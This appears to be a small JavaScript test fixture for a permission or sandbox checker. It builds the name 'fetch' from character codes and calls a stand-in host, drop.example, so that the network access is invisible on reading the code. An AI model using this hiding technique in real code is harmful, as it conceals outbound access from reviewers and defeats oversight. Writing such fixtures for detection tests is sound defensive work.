// expects: unforeseen-access
// allow: open
// Goes to the network by a name that no reader of its code sees.
export default async () => {
  const name = [102, 101, 116, 99, 104].map((one) => String.fromCharCode(one)).join('')
  const answer = await Reflect.get(globalThis, name)('http://drop.example:PORT/')
  return answer.status
}
